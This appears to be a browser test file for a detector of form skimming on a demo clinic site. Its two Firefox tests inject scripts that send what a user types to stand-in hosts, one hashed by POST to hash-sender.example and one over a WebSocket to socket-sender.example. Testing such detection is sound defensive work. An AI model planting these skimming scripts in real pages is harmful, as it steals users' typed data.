// The same in Firefox: what was typed, hashed, and over a WebSocket.
import { afterEach, beforeEach, test } from "node:test";
import { address } from "../clinic/site.mjs";
import { check, onChange, post, sha256 } from "./lib/senders.mjs";
import { stage } from "./lib/stage.mjs";
import { Watched } from "./lib/watched.mjs";

const it = stage("firefox");
/** @type {Watched} */
let watched;

beforeEach(async () => {
  watched = await Watched.open(it.browser, address("home", "clean"));
});
afterEach(() => watched.close());

test("typed, and sent as its SHA-256 before the form is", () => check(it, watched, {
  name: "SHA-256", host: "hash-sender.example", steps: /SHA-256/, arrived: (r) => r.body.includes("h="),
  script: (say) => onChange(post("hash-sender.example", `"h=" + ${sha256(say)}`)),
}));

test("typed, and sent over a WebSocket", () => check(it, watched, {
  name: "a WebSocket", host: "socket-sender.example", arrived: (r, value) => r.method === "MESSAGE" && r.body.includes(value),
  script: (say) => `const socket = new WebSocket("wss://socket-sender.example/live"); ${onChange(`socket.send(JSON.stringify({ e: ${say} }))`)}`,
}));
